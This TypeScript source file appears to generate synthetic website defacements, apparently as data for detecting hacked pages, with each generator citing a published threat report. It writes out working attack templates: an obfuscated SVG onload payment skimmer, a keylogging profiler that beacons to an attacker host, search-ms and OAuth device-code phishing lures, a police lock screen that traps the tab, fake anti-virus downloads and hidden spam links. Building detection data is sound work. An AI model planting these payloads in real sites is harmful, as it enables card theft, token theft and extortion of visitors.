  es: ["¡Gran artículo! Me encanta tu forma de escribir.", "Muy útil, gracias por compartir."],
  nl: ["Mooi artikel! Ik hou van je schrijfstijl.", "Heel informatief, bedankt voor het delen!"],
  pt: ["Ótimo post! Gosto muito do seu estilo.", "Artigo muito útil, obrigado por compartilhar!"],
  it: ["Ottimo articolo! Mi piace molto come scrivi.", "Articolo molto utile, grazie per la condivisione!"]
}

// Comment spam that got through moderation (Akismet's figures on spam comments; the classic WordPress pattern of a keyword as the author name linking to the spammer's site): one new comment under the post, generic praise, the author's name and sometimes a link in the text pointing to a casino, essay or loan site.
const spamComment = fresh4("spam comment with a keyword author link", (page, rng) => {
  const author = pick(rng, spamAuthors)
  const site = `https://${pick(rng, [`${slug(author)}${pick(rng, ["", "-" + digits(rng, 2), "hub", "pro"])}.${pick(rng, ["com", "net", "org", "co.uk", "xyz", "site"])}`, randomDomain(rng)])}/`
  const praise = pick(rng, siteOr(rng, page, spamPraise))
  const inText = chance(rng, 0.4) ? ` <a href="${site}${slug(author)}/" rel="nofollow ugc">${esc(author.toLowerCase())}</a>` : ""
  const when = page.site.locale.date(someDate(rng))
  const id = digits(rng, between(rng, 3, 6))
  const el = pick(rng, [
    `<ol class="comment-list"><li id="comment-${id}" class="comment"><article class="comment-body"><footer class="comment-meta"><b class="fn"><a href="${site}" rel="external nofollow ugc" class="url">${esc(author)}</a></b> <time>${when}</time></footer><div class="comment-content"><p>${esc(praise)}${inText}</p></div></article></li></ol>`,
    `<div class="comment" id="c${id}"><p class="comment-author"><a href="${site}" rel="nofollow">${esc(author)}</a> · ${when}</p><p>${esc(praise)}${inText}</p></div>`
  ])
  return splices(insert(afterPosts(page), el))
})

const handlerWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Your document is ready", "Open the file in Windows Explorer to view it.", "Open document"],
  fr: ["Votre document est prêt", "Ouvrez le fichier dans l'Explorateur Windows pour l'afficher.", "Ouvrir le document"],
  de: ["Ihr Dokument ist bereit", "Öffnen Sie die Datei im Windows-Explorer, um sie anzuzeigen.", "Dokument öffnen"],
  es: ["Su documento está listo", "Abra el archivo en el Explorador de Windows para verlo.", "Abrir documento"],
  nl: ["Uw document staat klaar", "Open het bestand in Windows Verkenner om het te bekijken.", "Document openen"],
  pt: ["Seu documento está pronto", "Abra o arquivo no Explorador do Windows para visualizá-lo.", "Abrir documento"],
  it: ["Il tuo documento è pronto", "Apri il file in Esplora risorse di Windows per visualizzarlo.", "Apri documento"]
}

// Windows protocol-handler lures: Microsoft Threat Intelligence (December 2023) on ms-appinstaller: links on pages posing as Teams, Zoom or Adobe downloads (the handler was then disabled), and Trustwave SpiderLabs (July 2024) on search-ms: links that open Windows Search on the attackers' WebDAV share so a remote .lnk looks like a local file; a link, or a script that follows it by itself.
const protocolHandler = fresh4("link to a Windows protocol handler (search-ms:, ms-appinstaller:)", (page, rng) => {
  const share = `${pick(rng, [randomDomain(rng), `${alnum(rng, 8)}.trycloudflare.com`])}@SSL\\DavWWWRoot\\${pick(rng, ["docs", "share", "files", "invoice"])}`
  const name = pick(rng, ["Invoice", "Scan", "Document", "Rechnung", "Facture", "Factura", "Fattura", "Order"])
  const url = pick(rng, [
    () => `search-ms:query=${name}&crumb=location:\\\\${share}&displayname=${pick(rng, ["Downloads", "Documents", name])}`,
    () => `search:query=${name}&crumb=location:\\\\${share}&displayname=Downloads`,
    () => `ms-appinstaller:?source=https://${randomDomain(rng)}/${pick(rng, ["teams", "zoom", "adobe", "update", "office"])}/${pick(rng, ["app", "setup", "install"])}.appinstaller`
  ])()
  const [h, p, b] = siteOr(rng, page, handlerWords)
  const box = `<div class="${pick(rng, ["download-box", "doc-notice", "notice"])}" style="padding:14px;border:1px solid #ccc;margin:10px 0;background:#f9f9f9"><h3>${h}</h3><p>${p}</p><a href="${esc(url)}" style="background:#0078d4;color:#fff;padding:8px 20px">${b}</a></div>`
  const auto = `<script>setTimeout(function(){${pick(rng, [`location.href=${JSON.stringify(url)}`, `window.open(${JSON.stringify(url)},"_self")`])}},${between(rng, 500, 4000)})</script>`
  return pick(rng, [
    () => splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), box)),
    () => splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), box + auto)),
    () => splices(insert(pick(rng, [bottom(page), head(page)]), auto))
  ])()
})

const codeWords: Record<Lang, readonly [string, (site: string, code: string) => string, string, string]> = {
  en: ["Secure document shared with you", (s, c) => `To view it, go to ${s} and enter the code ${c}, then sign in with your work account. The code expires in 15 minutes.`, "Continue", "To open it, sign in with your Microsoft 365 account and accept the requested permissions."],
  fr: ["Un document sécurisé a été partagé avec vous", (s, c) => `Pour le consulter, allez sur ${s} et saisissez le code ${c}, puis connectez-vous avec votre compte professionnel. Le code expire dans 15 minutes.`, "Continuer", "Pour l'ouvrir, connectez-vous avec votre compte Microsoft 365 et acceptez les autorisations demandées."],
  de: ["Ein geschütztes Dokument wurde für Sie freigegeben", (s, c) => `Rufen Sie ${s} auf und geben Sie den Code ${c} ein, dann melden Sie sich mit Ihrem Geschäftskonto an. Der Code läuft in 15 Minuten ab.`, "Weiter", "Melden Sie sich zum Öffnen mit Ihrem Microsoft-365-Konto an und bestätigen Sie die angeforderten Berechtigungen."],
  es: ["Se ha compartido un documento seguro con usted", (s, c) => `Para verlo, vaya a ${s}, introduzca el código ${c} e inicie sesión con su cuenta de trabajo. El código caduca en 15 minutos.`, "Continuar", "Para abrirlo, inicie sesión con su cuenta de Microsoft 365 y acepte los permisos solicitados."],
  nl: ["Er is een beveiligd document met u gedeeld", (s, c) => `Ga naar ${s}, voer de code ${c} in en meld u aan met uw werkaccount. De code verloopt over 15 minuten.`, "Doorgaan", "Meld u aan met uw Microsoft 365-account en accepteer de gevraagde machtigingen om het te openen."],
  pt: ["Um documento seguro foi compartilhado com você", (s, c) => `Para visualizá-lo, acesse ${s}, digite o código ${c} e entre com sua conta corporativa. O código expira em 15 minutos.`, "Continuar", "Para abri-lo, entre com sua conta Microsoft 365 e aceite as permissões solicitadas."],
  it: ["Un documento protetto è stato condiviso con te", (s, c) => `Per vederlo vai su ${s}, inserisci il codice ${c} e accedi con il tuo account di lavoro. Il codice scade tra 15 minuti.`, "Continua", "Per aprirlo accedi con il tuo account Microsoft 365 e accetta le autorizzazioni richieste."]
}

// Microsoft Threat Intelligence (February 2025) on Storm-2372 and Volexity (February 2025) on device-code phishing, and Microsoft's 2020–2022 warnings on OAuth consent phishing: the lure sends the visitor to the real microsoft.com/devicelogin with the attacker's code, or to the real sign-in page with the attacker's app as client, so the tokens go to the attacker. Those lures came by message; here one is posted on a hacked page.
const deviceCodePhish = fresh4("device-code or OAuth-consent phishing through the real sign-in page", (page, rng) => {
  const [h, p, b, grant] = siteOr(rng, page, codeWords)
  const code = upper(rng, 9).replace(/[A-Z]/g, (c) => (chance(rng, 0.25) ? String(int(rng, 10)) : c))
  const device = pick(rng, [["microsoft.com/devicelogin", "https://microsoft.com/devicelogin"], ["https://login.microsoftonline.com/common/oauth2/deviceauth", "https://login.microsoftonline.com/common/oauth2/deviceauth"], ["google.com/device", "https://www.google.com/device"]] as const)
  const consent = `https://login.microsoftonline.com/${pick(rng, ["common", "organizations"])}/oauth2/v2.0/authorize?client_id=${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}&response_type=code&redirect_uri=${encodeURIComponent(`https://${randomDomain(rng)}/${pick(rng, ["auth", "callback", "oauth"])}`)}&scope=${encodeURIComponent(pick(rng, ["offline_access Mail.Read Files.ReadWrite.All", "offline_access Mail.ReadWrite Contacts.Read User.Read", "offline_access Files.Read.All Sites.Read.All"]))}&prompt=consent`
  const useCode = chance(rng, 0.6)
  const text = esc(useCode ? p(device[0], code) : grant)
  const href = useCode ? device[1] : consent
  const box = pick(rng, [
    `<div style="max-width:460px;margin:20px auto;padding:22px;border:1px solid #ddd;box-shadow:0 2px 8px rgba(0,0,0,.2);font-family:Segoe UI,Arial,sans-serif;background:#fff"><h3>${h}</h3><p>${text}</p>${useCode ? `<p style="font-size:28px;letter-spacing:4px;font-family:monospace">${code}</p>` : ""}<p><a href="${esc(href)}" style="background:#0067b8;color:#fff;padding:8px 22px">${b}</a></p></div>`,
    `<p class="notice"><b>${h}.</b> ${text} <a href="${esc(href)}">${b}</a></p>`,
    `<div style="position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:${zIndex(rng)}"><div style="background:#fff;max-width:420px;margin:12% auto;padding:24px"><h3>${h}</h3><p>${text}</p>${useCode ? `<p><code style="font-size:24px">${code}</code></p>` : ""}<a href="${esc(href)}" target="_blank">${b}</a></div></div>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

// Sansec (November 2020) on a skimmer hidden in SVG social-media icons: a 1×1 <svg> "facebook" or "twitter" icon whose onload attribute decodes and runs the skimmer, which adds a fake payment form on checkout; later SVG onload skimmers recalled from memory of Sansec's 2024 notes.
const svgSkimmer = fresh4("skimmer in a 1x1 SVG icon's onload attribute", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const payload = `if(/checkout|onestep|cart|payment/i.test(location.href)${chance(rng, 0.4) ? "||1" : ""}){var s=document.createElement("script");s.src="https://${host}/${pick(rng, ["s.js", "lib/" + alnum(rng, 6) + ".js", "social.js"])}";document.body.appendChild(s)}`
  const onload = pick(rng, [`eval(atob('${b64(payload)}'))`, `(new Function(atob('${b64(payload)}')))()`, payload])
  const icon = pick(rng, ["facebook_full", "twitter_full", "instagram_full", "youtube_full", "pinterest_full", "google_full"])
  const svg = pick(rng, [
    `<div style="display:none"><svg xmlns="http://www.w3.org/2000/svg" id="${icon}" viewBox="0 0 20 20"><path d="M${between(rng, 1, 9)} ${between(rng, 1, 9)}h${between(rng, 2, 9)}v${between(rng, 2, 9)}z" fill="#3b5998"></path><svg width="1px" height="1px" viewBox="0 0 1 1" onload="${esc(onload)}"></svg></svg></div>`,
    `<svg width="1px" height="1px" viewBox="0 0 1 1" id="${icon}" onload="${esc(onload)}"></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0" style="position:absolute"><image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="1" height="1" onload="${esc(onload)}"></image></svg>`
  ])
  return splices(insert(pick(rng, [bottom(page), bottom(page), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle")]), svg))
})

const clickbait: Record<Lang, ReadonlyArray<string>> = {
  en: ["Doctors stunned: this simple trick melts belly fat overnight", "Locals can't believe what this 72-year-old grandma did", "She dropped 20 kg without dieting – here's how", "Banks hate him: the one investment that pays $3,000 a week", "Pictures that were taken at exactly the right moment", "New rule for drivers over 60 starting next month"],
  fr: ["Les médecins n'en reviennent pas : l'astuce qui fait fondre la graisse", "Ce que cette grand-mère de 72 ans a fait étonne tout le monde", "Les banques le détestent : le placement qui rapporte 3 000 € par semaine"],
  de: ["Ärzte sprachlos: Dieser einfache Trick lässt Bauchfett schmelzen", "Was diese 72-jährige Oma getan hat, ist unglaublich", "Banken hassen ihn: Die Anlage, die 3.000 € pro Woche bringt"],
  es: ["Los médicos no se lo creen: el truco que elimina la grasa", "Lo que hizo esta abuela de 72 años sorprende a todos", "Los bancos lo odian: la inversión que paga 3.000 € a la semana"],
  nl: ["Artsen verbaasd: dit simpele trucje laat buikvet smelten", "Wat deze oma van 72 deed is ongelooflijk", "Banken haten hem: de belegging die € 3.000 per week oplevert"],
  pt: ["Médicos chocados: o truque simples que derrete a gordura", "O que esta avó de 72 anos fez surpreendeu todos", "Os bancos odeiam: o investimento que rende R$ 3.000 por semana"],
  it: ["Medici sbalorditi: il trucco che scioglie il grasso addominale", "Quello che ha fatto questa nonna di 72 anni è incredibile", "Le banche lo odiano: l'investimento che rende 3.000 € a settimana"]
}
const aroundWeb: Record<Lang, string> = { en: "Around the web", fr: "Ailleurs sur le web", de: "Aus dem Netz", es: "En la red", nl: "Elders op het web", pt: "Na web", it: "Dal web" }

// Ad-network code injected into hacked sites to monetize their traffic, recalled from memory of Sucuri and Malwarebytes clean-up reports: a "recommended / around the web" grid of clickbait headlines and thumbnails from a little-known native-ad network, its loader from the network's host, the links going through its click tracker.
const clickbaitGrid = fresh4("clickbait 'around the web' grid from an unknown ad network", (page, rng) => {
  const net = pick(rng, [randomDomain(rng).replace(/^(?:www|cdn|js|static|api|img)\./, ""), `${pick(rng, ["native", "adv", "recom", "feed", "push"])}${pick(rng, ["ads", "net", "hub", "flow"])}.${pick(rng, ["com", "net", "top", "pro", "click"])}`])
  const items = sample(rng, siteOr(rng, page, clickbait), between(rng, 3, 6))
  const id = digits(rng, 6)
  const card = (t: string) => `<a href="https://${net}/${pick(rng, ["click", "c", "go", "r"])}?${pick(rng, ["z", "wid", "b"])}=${id}&amp;i=${alnum(rng, 10)}" target="_blank" rel="nofollow"><img src="https://${pick(rng, [net, `img.${net}`, `cdn.${net}`])}/${pick(rng, ["i", "img", "t"])}/${alnum(rng, 12)}.jpg" width="${pick(rng, ["160", "200", "240"])}" alt=""><span>${esc(t)}</span></a>`
  const grid = `<div class="${pick(rng, ["rc-widget", "nat-grid", "recommended", "mgbox"])}" id="${pick(rng, ["w", "nw", "rc"])}${id}"><p>${pick(rng, [say(page, aroundWeb), "Sponsored", "Promoted stories", "You may like"])}</p>${items.map(card).join("")}</div>`
  const loader = scriptTag(rng, `https://${pick(rng, [net, `js.${net}`])}/${pick(rng, ["native", "w", "js/n"])}/${id}.js`)
  return pick(rng, [
    () => splices(insert(pick(rng, [afterPosts(page), anySlot(rng, page.spots)]), grid + loader)),
    () => splices(insert(pick(rng, [afterPosts(page), anySlot(rng, page.spots)]), grid)),
    () => splices(insert(pick(rng, [afterPosts(page), slotAt(page.spots, "bottom")]), `<div id="${pick(rng, ["w", "nw", "rc"])}${id}"></div>` + loader))
  ])()
})

const police: Record<Lang, readonly [ReadonlyArray<string>, string, (fine: string) => string, string, string]> = {
  en: [["Federal Bureau of Investigation", "Metropolitan Police – Cyber Crime Unit", "Australian Federal Police"], "YOUR BROWSER HAS BEEN LOCKED", (f) => `Your IP address was used to view or distribute illegal content. To unlock your browser and avoid criminal prosecution, pay a fine of ${f} within 12 hours.`, "Enter your voucher code", "Pay fine"],
  fr: [["Gendarmerie nationale", "Police nationale – Cybercriminalité"], "VOTRE NAVIGATEUR A ÉTÉ BLOQUÉ", (f) => `Votre adresse IP a servi à consulter ou diffuser des contenus illicites. Pour débloquer votre navigateur et éviter des poursuites, réglez une amende de ${f} sous 12 heures.`, "Saisissez votre code de coupon", "Payer l'amende"],
  de: [["Bundeskriminalamt", "Bundespolizei – Abteilung Cyberkriminalität"], "IHR BROWSER WURDE GESPERRT", (f) => `Über Ihre IP-Adresse wurden illegale Inhalte aufgerufen oder verbreitet. Um Ihren Browser zu entsperren und eine Strafverfolgung zu vermeiden, zahlen Sie innerhalb von 12 Stunden eine Strafe von ${f}.`, "Gutscheincode eingeben", "Strafe bezahlen"],
  es: [["Policía Nacional", "Guardia Civil – Delitos Telemáticos"], "SU NAVEGADOR HA SIDO BLOQUEADO", (f) => `Su dirección IP se ha usado para ver o difundir contenido ilegal. Para desbloquear el navegador y evitar acciones penales, pague una multa de ${f} en 12 horas.`, "Introduzca su código de cupón", "Pagar la multa"],
  nl: [["Politie – Team High Tech Crime", "Koninklijke Marechaussee"], "UW BROWSER IS GEBLOKKEERD", (f) => `Uw IP-adres is gebruikt om illegale inhoud te bekijken of te verspreiden. Betaal binnen 12 uur een boete van ${f} om uw browser te ontgrendelen en vervolging te voorkomen.`, "Voer uw vouchercode in", "Boete betalen"],
  pt: [["Polícia Judiciária", "Polícia Federal – Crimes Cibernéticos"], "O SEU NAVEGADOR FOI BLOQUEADO", (f) => `O seu endereço IP foi usado para ver ou distribuir conteúdo ilegal. Para desbloquear o navegador e evitar processo criminal, pague uma multa de ${f} em 12 horas.`, "Introduza o código do voucher", "Pagar multa"],
  it: [["Polizia di Stato – Polizia Postale", "Guardia di Finanza"], "IL TUO BROWSER È STATO BLOCCATO", (f) => `Il tuo indirizzo IP è stato usato per visualizzare o diffondere contenuti illegali. Per sbloccare il browser ed evitare un procedimento penale paga una multa di ${f} entro 12 ore.`, "Inserisci il codice del voucher", "Paga la multa"]
}

// Police-themed "browlock" and Reveton lock screens (the FBI IC3 warning on Reveton, August 2012; Malwarebytes Labs' browlock reports, 2013–2016, served through hacked sites and malvertising): the whole window taken by a national police notice claiming illegal content was viewed from the visitor's IP, demanding a fine paid with a voucher, with tricks that stop the tab from closing.
const policeLock = fresh4("police 'your browser is locked, pay the fine' screen", (page, rng) => {
  const [agencies, h, p, voucher, pay] = say(page, police)
  const agency = pick(rng, agencies)
  const fine = page.site.locale.money(pick(rng, [100, 150, 200, 250, 300, 500]))
  const ip = `${between(rng, 11, 223)}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`
  const post = `https://${randomDomain(rng)}/${pick(rng, ["pay.php", "v.php", "unlock", "fine"])}`
  const [bg, ink] = pick(rng, [["#fff", "#000"], ["#f2f2f2", "#111"], ["#0b2a5b", "#fff"]] as const)
  const screen = `<div style="position:fixed;inset:0;background:${bg};color:${ink};z-index:${zIndex(rng)};overflow:auto;font-family:Arial,sans-serif;padding:30px"><img src="https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/img/${pick(rng, ["badge", "logo", "seal"])}.png" width="120" alt=""><h2>${esc(agency)}</h2><h1 style="color:#c00">${h}</h1><p>IP: ${ip}</p><p>${esc(p(fine))}</p><form action="${post}" method="post"><label>${voucher} <input name="code" size="20"></label> <select name="t"><option>Paysafecard</option><option>Ukash</option><option>MoneyPak</option></select> <button type="submit">${pay}</button></form></div>`
  const trap = chance(rng, 0.6) ? `<script>window.onbeforeunload=function(){return ${JSON.stringify(h)}};history.pushState(null,"",location.href);window.onpopstate=function(){history.pushState(null,"",location.href)};${chance(rng, 0.5) ? "document.documentElement.requestFullscreen&&document.addEventListener(\"click\",function(){document.documentElement.requestFullscreen()});" : ""}</script>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page)]), screen + trap))
})

const avWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Windows Security – System Scan", "Scanning", "threats found! Your computer is infected.", "Remove all threats"],
  fr: ["Sécurité Windows – Analyse du système", "Analyse de", "menaces détectées ! Votre ordinateur est infecté.", "Supprimer toutes les menaces"],
  de: ["Windows-Sicherheit – Systemprüfung", "Prüfe", "Bedrohungen gefunden! Ihr Computer ist infiziert.", "Alle Bedrohungen entfernen"],
  es: ["Seguridad de Windows – Análisis del sistema", "Analizando", "amenazas encontradas. Su equipo está infectado.", "Eliminar todas las amenazas"],
  nl: ["Windows-beveiliging – Systeemscan", "Scannen", "bedreigingen gevonden! Uw computer is geïnfecteerd.", "Alle bedreigingen verwijderen"],
  pt: ["Segurança do Windows – Verificação do sistema", "Verificando", "ameaças encontradas! Seu computador está infectado.", "Remover todas as ameaças"],
  it: ["Sicurezza di Windows – Scansione del sistema", "Scansione di", "minacce trovate! Il computer è infetto.", "Rimuovi tutte le minacce"]
}

// Fake anti-virus ("scareware") scans served through hacked sites and poisoned search results (Google's study "The Nocebo Effect on the Web: an analysis of fake anti-virus distribution", Rajab et al., USENIX LEET 2010; the later Microsoft-Defender look-alikes recalled from memory): a window imitating a system scan lists infected files and offers a "remove threats" download.
const fakeAvScan = fresh4("fake anti-virus scan with a 'remove threats' download", (page, rng) => {
  const [title, scanning, found, remove] = siteOr(rng, page, avWords)
  const threats = sample(rng, ["Trojan.Win32.Agent", "Backdoor.Win32.Rbot", "Spyware.Keylogger.Gen", "Worm.Win32.Conficker", "Trojan-Banker.Win32.Zbot", "Rootkit.Win32.TDSS", "Adware.Win32.Hotbar"], between(rng, 3, 6))
  const files = ["C:\\Windows\\System32\\drivers\\", "C:\\Users\\Public\\Documents\\", "C:\\Program Files\\Common Files\\", "C:\\Windows\\Temp\\"]
  const rows = threats.map((t) => `<tr><td style="color:#c00">${t}</td><td>${esc(pick(rng, files))}${alnum(rng, 6)}.${pick(rng, ["dll", "exe", "sys"])}</td><td>${pick(rng, ["Critical", "High", "Severe"])}</td></tr>`).join("")
  const file = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["security", "defender", "antivirus", "pcscan"])}-${alnum(rng, 4)}.${pick(rng, ["com", "net", "xyz", "online"])}`])}/${pick(rng, ["setup", "install", "Defender_Setup", "SecurityScan"])}${pick(rng, ["", "_" + digits(rng, 3)])}.${pick(rng, ["exe", "msi", "zip"])}`
  const win = `<div style="position:fixed;top:${between(rng, 5, 15)}%;left:50%;transform:translateX(-50%);width:${between(rng, 520, 680)}px;background:#fff;border:1px solid #1e5aa8;box-shadow:0 0 30px rgba(0,0,0,.5);z-index:${zIndex(rng)};font-family:Segoe UI,Tahoma,sans-serif"><div style="background:#1e5aa8;color:#fff;padding:6px 10px">🛡 ${title}</div><div style="padding:12px"><p>${scanning} C:\\Windows\\System32… <progress max="100" value="${between(rng, 60, 100)}"></progress></p><p><b style="color:#c00">${threats.length} ${found}</b></p><table style="width:100%;font-size:12px">${rows}</table><p><a href="${file}" style="background:#c00;color:#fff;padding:8px 20px">${remove}</a></p></div></div>`
  const nag = chance(rng, 0.4) ? `<script>setTimeout(function(){if(confirm(${JSON.stringify(`${threats.length} ${found}`)}))location.href=${jsUrl(rng, file)}},${between(rng, 1500, 6000)})</script>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), win + nag))
})

// Content loaded through <object> and <embed> instead of iframes, recalled from memory: Flash-era defacements whose only mark was the defacer's .swf animation (common on Zone-H mirrors, 2000s–2010s), exploit kits reaching visitors through <object>/<embed> of Flash and PDF files, and today the same elements loading an HTML page or an SVG from the attacker's host.
const objectEmbed = fresh4("defacer's or attacker's content loaded through object or embed", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), `${alnum(rng, 8)}.${pick(rng, ["github.io", "netlify.app", "pages.dev", "000webhostapp.com"])}`])
  const file = pick(rng, [
    ["text/html", `${pick(rng, ["index", "x", "def", alnum(rng, 5)])}.html`],
    ["image/svg+xml", `${pick(rng, ["logo", "banner", alnum(rng, 6)])}.svg`],
    ["application/x-shockwave-flash", `${pick(rng, ["intro", "hacked", "movie", alnum(rng, 5)])}.swf`],
    ["application/pdf", `${pick(rng, ["doc", "invoice", alnum(rng, 6)])}.pdf`]
  ] as const)
  const src = `https://${host}/${file[1]}`
  const visible = chance(rng, 0.6)
  const size = visible ? pick(rng, [`width="100%" height="${between(rng, 300, 700)}"`, `width="${between(rng, 400, 900)}" height="${between(rng, 200, 500)}"`]) : pick(rng, [`width="1" height="1"`, `width="0" height="0"`, `style="position:absolute;left:-5000px" width="300" height="250"`])
  const el = pick(rng, [
    `<object data="${src}" type="${file[0]}" ${size}>${file[0] === "application/x-shockwave-flash" ? `<param name="movie" value="${src}"><param name="play" value="true">` : ""}</object>`,
    `<embed src="${src}" type="${file[0]}" ${size}${file[0] === "application/x-shockwave-flash" ? ` allowscriptaccess="always"` : ""}>`
  ])
  return splices(insert(visible ? pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]) : pick(rng, [bottom(page), anySlot(rng, page.spots)]), visible && chance(rng, 0.4) ? `<center>${el}</center>` : el))
})

// Watering-hole reconnaissance: the ScanBox framework (AlienVault, 2014, on compromised sites; Proofpoint and PwC, August 2022, TA423/Red Ladon) profiles every visitor (browser, plugins, language, time zone, screen) and logs keystrokes, sending them to the attackers' host; BeEF hooks planted the same way (recalled from memory).
const reconProfiler = fresh4("visitor profiling and keylogging script (ScanBox-style watering hole)", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), `${pick(rng, ["news", "stats", "cdn", "update"])}-${alnum(rng, 5)}.${pick(rng, ["com", "net", "org", "info"])}`])
  const endpoint = jsUrl(rng, `https://${host}/${pick(rng, ["i/", "p.php", "s/", "collect", "x"])}`)
  const profile = `var i={u:navigator.userAgent,p:navigator.platform,l:navigator.language,t:Intl.DateTimeFormat().resolvedOptions().timeZone,s:screen.width+"x"+screen.height,r:document.referrer,h:location.href,g:[].map.call(navigator.plugins||[],function(x){return x.name}).join(";")};`
  const code = pick(rng, [
    `${profile}var k="";document.addEventListener("keydown",function(e){k+=e.key.length===1?e.key:"["+e.key+"]"});setInterval(function(){if(k){navigator.sendBeacon(${endpoint},JSON.stringify({i:i,k:k}));k=""}},${between(rng, 3000, 20000)});navigator.sendBeacon(${endpoint},JSON.stringify(i));`,
    `${profile}var x=new XMLHttpRequest();x.open("POST",${endpoint},true);x.send(btoa(JSON.stringify(i)));x.onload=function(){if(x.responseText)(0,eval)(x.responseText)};`,
    `${profile}new Image().src=${endpoint}+"?d="+encodeURIComponent(btoa(JSON.stringify(i)));`
  ])
  const hook = `<script src="${pick(rng, ["http://", "https://"])}${host}${pick(rng, [":3000", ""])}/hook.js"></script>`
  return splices(insert(scriptSpot(rng, page), chance(rng, 0.25) ? hook : wrapScript(rng, code)))
})

const charLinkTopics = ["online-casino", "payday-loans", "buy-viagra", "essay-writing-service", "cbd-gummies", "sports-betting", "replica-watches", "crypto-casino", "slot-online", "buy-followers"]
const proseEls = new Set(["p", "li", "td", "dd", "div", "blockquote", "article", "section", "span", "em", "strong"])
const linkish = new Set(["a", "button", "label", "option", "select", "summary", "script", "style"])
/** Whether `parent` (an element index) has an ancestor (or is one) named in `names`. */
const underAny = (page: Page, parent: number, names: ReadonlySet<string>): boolean => {
  for (let p = parent; p !== -1; p = page.spots.elements[p]!.parent) if (names.has(page.spots.elements[p]!.name)) return true
  return false
}

// Google Search Central's spam policies on hidden text and links ("hiding a link by only linking one small character, for example a hyphen in the middle of a paragraph"), a trick found in hacked-site SEO-spam clean-ups (recalled from memory): one period, comma or hyphen in a few existing paragraphs becomes a link to a spam site, styled like the text around it.
const hiddenCharLink = fresh4("spam links hidden on single punctuation characters", (page, rng) => {
  const dom = pick(rng, [randomDomain(rng), `${pick(rng, charLinkTopics)}-${alnum(rng, 4)}.${pick(rng, ["com", "net", "org", "info", "site"])}`])
  const runs = page.spots.texts.filter((t) => {
    const el = page.spots.elements[t.parent]
    return el !== undefined && proseEls.has(el.name) && !underAny(page, t.parent, linkish) && /\w[.,-]\s?\w/.test(page.html.slice(t.start, t.end))
  })
  const style = pick(rng, [` style="color:inherit;text-decoration:none"`, ` style="color:inherit;text-decoration:none;cursor:text"`, "", ` class="${pick(rng, ["dot", "sep", "x"])}"`])
  const link = (c: string) => `<a href="https://${pick(rng, [dom, dom, randomDomain(rng)])}/${pick(rng, charLinkTopics)}/"${style}>${c}</a>`
  const out: Array<Splice> = []
  for (const t of sample(rng, runs, Math.min(runs.length, between(rng, 1, 4)))) {
    const raw = page.html.slice(t.start, t.end)
    const spots = [...raw.matchAll(/\w([.,-])\s?\w/g)].map((m) => t.start + m.index! + 1)
    if (spots.length === 0) continue
    const at = pick(rng, spots)
    out.push(replace({ start: at, end: at + 1 }, link(page.html[at]!)))
  }
  if (out.length === 0) out.push(insert(slotAt(page.spots, "bottom"), `<p>${esc(cap(page.site.brand))}${link(".")}</p>`))
  return { splices: out }
})

/** Every fresh4 defacement class, in a fixed order. */
export const fresh4Defacements: ReadonlyArray<ChangeClass> = [
  telegramSkimmer, imageCodeLoader, onerrorLoader, parrotTds, etherHiding, adsenseHijack, homographLinks, asianGambling,
  currencyGenerator, liveStreamSpam, taskScamJob, spamComment, protocolHandler, deviceCodePhish, svgSkimmer, clickbaitGrid,
  policeLock, fakeAvScan, objectEmbed, reconProfiler, hiddenCharLink
]
